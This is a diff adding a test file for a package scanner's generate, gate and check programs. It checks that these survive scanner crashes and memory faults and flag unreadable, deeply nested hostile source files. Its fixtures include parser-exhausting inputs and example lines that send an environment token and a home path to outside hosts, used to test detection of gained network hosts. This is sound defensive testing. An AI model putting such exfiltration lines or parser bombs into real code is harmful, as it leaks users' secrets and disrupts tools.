@@ -1,0 +1,249 @@
+/** What a build does to the scanner stays with that build: the programs `generate`, `gate` and `check` go on. */
+import { readdirSync } from 'node:fs';
+import { dirname, join } from 'node:path';
+import { pathToFileURL } from 'node:url';
+import { describe, expect, it } from 'vitest';
+import { GateFixture } from '../publish/gate-fixture.ts';
+import { runCommandProcess } from '../run/generator-command.ts';
+import { runProcess } from '../run/script-process.ts';
+import type { Ended } from '../run/script-process.ts';
+import { GitFixture, build, temporaryFolder } from './git-fixture.ts';
+import type { Files } from './git-fixture.ts';
+import { readRecord, readTree } from './index-reader.ts';
+import type { PackageRecord } from '../../format/index/record.ts';
+
+const MAIN = join(import.meta.dirname, '../../generator/main.ts');
+const CLIENT = join(import.meta.dirname, '../../client/main.ts');
+const FAULTS = pathToFileURL(join(import.meta.dirname, 'scan-faults.ts')).href;
+
+/** Code that Python reads only up to a hundred levels, and tokens that a parser reads again and again. */
+const HOSTILE: Readonly<Record<string, string>> = {
+  strings: `import os\nx = ${'f"""{'.repeat(1_000)}1${'}"""'.repeat(1_000)}\n`,
+  open: `import os\nx = ${'f"{'.repeat(2_000)}\n`,
+  require: `import os\n${'require("'.repeat(25_000)}`,
+  import: `import os\n${'import("'.repeat(25_000)}`,
+  eval: `import os\n${'eval("'.repeat(25_000)}`,
+};
+
+const PATHS: Files = Object.fromEntries(
+  Object.keys(HOSTILE)
+    .sort()
+    .map((name) => [`src/${name}.py`, HOSTILE[name]!]),
+);
+
+function unreadIn({ findings }: Shown): string[] {
+  return findings
+    .filter(({ code }) => code === 'source-unread')
+    .map(({ file }) => file)
+    .sort();
+}
+
+interface Shown {
+  readonly findings: readonly { readonly code: string; readonly file: string }[];
+}
+
+function endOf({ checks }: Pick<PackageRecord, 'checks'>): string[] {
+  return checks.findings
+    .filter(({ code }) => code === 'scan-ended')
+    .map(({ level, file, message }) => `${level} ${file}: ${message}`);
+}
+
+function program(file: string, args: readonly string[], faults = true): Promise<Ended> {
+  const options = `--max-old-space-size=400 ${faults ? `--import ${FAULTS}` : ''}`;
+  return runProcess({
+    file,
+    args,
+    cwd: process.cwd(),
+    env: { ...process.env, NODE_OPTIONS: options },
+  });
+}
+
+function withFile(id: string, path: string, text: string): Files {
+  return build(id, '1.0.0', {}, { [path]: text });
+}
+
+/** A build of this length is examined in a process of its own. */
+const LONG = '# a comment of some length\n'.repeat(40_000);
+
+const REASON = 'error src/a.py: The build was not scanned: the scanner';
+
+describe('generate', { timeout: 600_000 }, () => {
+  const withFaults = (faults: Readonly<Record<string, string>>): GitFixture => {
+    const git = new GitFixture();
+    const builds = Object.entries(faults).map(([id, text]) =>
+      withFile(id, 'src/a.py', `import os\n${text}\n`),
+    );
+    git.commit(
+      Object.assign({}, build('a/before', '1.0.0'), ...builds, build('c/after', '1.0.0')) as Files,
+    );
+    return git;
+  };
+  const argsFor = (git: GitFixture, out: string, threads: string): string[] => {
+    const place = ['--repo', git.folder, '--out', out, '--no-site', '--no-client'];
+    return [...place, '--threads', threads];
+  };
+
+  it.each(['2'])(
+    'publishes every build where scans end their process, with %s threads',
+    async (threads) => {
+      const git = withFaults({
+        'b/crash': `# FAULT_CRASH\n${LONG}`,
+        'b/memory': `# FAULT_MEMORY\n${LONG}`,
+      });
+      const out = join(temporaryFolder(), 'index');
+      const args = argsFor(git, out, threads);
+      const run = await program(MAIN, ['generate', ...args]);
+      expect([run.status, run.stderr]).toEqual([0, '']);
+      expect(run.stdout).toMatch(/^builds: 4, versions: 4;/);
+      const found = (id: string): unknown[] => {
+        const record = readRecord(out, id);
+        return [record.checks.risk, ...endOf(record)];
+      };
+      expect([found('a/before'), found('c/after')]).toEqual([['ok'], ['ok']]);
+      expect(found('b/crash')).toEqual([
+        'danger',
+        `${REASON} crashed (SIGSEGV), also without its native parser`,
+      ]);
+      expect(found('b/memory')).toEqual(['danger', `${REASON} had not enough memory`]);
+      expect(readdirSync(dirname(out))).not.toContain('.index.examining');
+      const next = await program(MAIN, ['generate', ...args]);
+      expect([next.status, next.stdout]).toEqual([0, expect.stringContaining('0 written')]);
+    },
+  );
+
+  it.each(['2'])(
+    'publishes every build in the run after one that a short build ended, with %s threads',
+    async (threads) => {
+      const git = withFaults({ 'b/crash': '# FAULT_CRASH' });
+      const out = join(temporaryFolder(), 'index');
+      const args = argsFor(git, out, threads);
+      const ended = await program(MAIN, ['generate', ...args]);
+      expect(ended.status).not.toBe(0);
+      for (const more of [[], ['--full']]) {
+        const run = await program(MAIN, ['generate', ...args, ...more]);
+        expect([run.status, run.stderr]).toEqual([0, '']);
+        expect(run.stdout).toMatch(/^builds: 3, versions: 3;/);
+        expect(endOf(readRecord(out, 'b/crash'))).toEqual([
+          `${REASON} crashed (SIGSEGV), also without its native parser`,
+        ]);
+        expect(['a/before', 'c/after'].map((id) => endOf(readRecord(out, id)))).toEqual([[], []]);
+      }
+    },
+  );
+
+  it('makes the same index where the native parser crashes', async () => {
+    const git = new GitFixture();
+    const text = `const FAULT_NATIVE = 'x';\nfetch('http://a.io/', { body: process.env.TOKEN });\n// ${'x'.repeat(1_000_000)}\n`;
+    git.commit({ ...withFile('a/x', 'src/a.ts', text), ...build('b/y', '1.0.0') });
+    const folder = temporaryFolder();
+    // In folders of their own: some documents name the folder.
+    const [sound, faulty] = ['sound', 'faulty'].map((name) => join(folder, name, 'index')) as [
+      string,
+      string,
+    ];
+    const args = ['--repo', git.folder, '--no-site', '--no-client'];
+    expect((await program(MAIN, ['generate', ...args, '--out', sound], false)).status).toBe(0);
+    const run = await program(MAIN, ['generate', ...args, '--out', faulty]);
+    expect([run.status, run.stderr]).toEqual([0, '']);
+    expect(endOf(readRecord(faulty, 'a/x'))).toEqual([]);
+    expect(readTree(faulty)).toEqual(readTree(sound));
+  });
+
+  it('reads hostile files within its bounds', async () => {
+    const git = new GitFixture();
+    const names = Object.keys(HOSTILE);
+    git.commit(
+      Object.assign(
+        {},
+        ...names.map((name) => withFile(`a/${name}`, 'src/a.py', HOSTILE[name]!)),
+      ) as Files,
+    );
+    const out = join(temporaryFolder(), 'index');
+    const run = await runCommandProcess(
+      'generate',
+      '--repo',
+      git.folder,
+      '--out',
+      out,
+      '--no-site',
+      '--no-client',
+    );
+    expect([run.status, run.stderr]).toEqual([0, '']);
+    for (const name of names) {
+      const found = readRecord(out, `a/${name}`).checks.findings.map(
+        ({ code, file }) => `${code} ${file}`,
+      );
+      expect(found, name).toContain('source-unread src/a.py');
+    }
+  });
+});
+
+describe('gate', { timeout: 180_000 }, () => {
+  const judge = (gate: GateFixture, head: string, faults: boolean): Promise<Ended> => {
+    const author = ['--author', 'alice', '--author-id', '11'];
+    const args = ['--repo', gate.git.folder, '--base', 'main', '--head', head, ...author];
+    return program(MAIN, ['gate', ...args, '--json'], faults);
+  };
+
+  const ends: readonly (readonly [string, string])[] = [
+    ['FAULT_CRASH', 'crashed (SIGSEGV), also without its native parser'],
+    ['FAULT_MEMORY', 'had not enough memory'],
+  ];
+  it.each(ends)('refuses a build whose scan ends its process: %s', async (word, what) => {
+    const gate = new GateFixture();
+    const run = await judge(
+      gate,
+      gate.pull(withFile('alice/new-parts', 'src/a.py', `import os\n# ${word}\n`)),
+      true,
+    );
+    expect([run.status, run.stderr]).toEqual([1, '']);
+    expect(JSON.parse(run.stdout)).toMatchObject({
+      verdict: 'refuse',
+      reasons: expect.arrayContaining([
+        expect.objectContaining({
+          code: 'scan-ended',
+          file: 'builds/alice/new-parts/src/a.py',
+          message: `The build was not scanned: the scanner ${what}`,
+        }),
+      ]),
+    });
+  });
+
+  it('names everything as gained after a version whose scan ends its process', async () => {
+    const gate = new GateFixture();
+    gate.git.commit(withFile('alice/old-parts', 'src/a.py', 'import os\n# FAULT_CRASH\n'));
+    const next = build(
+      'alice/old-parts',
+      '1.1.0',
+      {},
+      {
+        'src/a.py':
+          "import os, requests\nrequests.post('https://api.example.org/', os.getenv('HOME'))\n",
+      },
+    );
+    const run = await judge(gate, gate.pull(next), true);
+    expect(JSON.parse(run.stdout)).toMatchObject({
+      builds: [{ previous: '1.0.0', gained: { hosts: ['api.example.org'] } }],
+    });
+  });
+
+  it('judges a build with hostile files', async () => {
+    const gate = new GateFixture();
+    const run = await judge(gate, gate.pull(build('alice/new-parts', '1.0.0', {}, PATHS)), false);
+    expect([run.status, run.stderr]).toEqual([0, '']);
+    const { builds } = JSON.parse(run.stdout) as { builds: Shown[] };
+    expect(unreadIn(builds[0]!)).toEqual(Object.keys(PATHS));
+  });
+});
+
+describe('stackyard check', { timeout: 180_000 }, () => {
+  it('judges a build with hostile files', async () => {
+    const git = new GitFixture();
+    git.commit(build('alice/parts', '1.0.0', {}, PATHS));
+    const folder = join(git.folder, 'builds/alice/parts');
+    const run = await program(CLIENT, ['check', folder, '--json'], false);
+    expect([run.status, run.stderr]).toEqual([0, '']);
+    const { data } = JSON.parse(run.stdout) as { data: Shown };
+    expect(unreadIn(data)).toEqual(Object.keys(PATHS));
+  });
+});
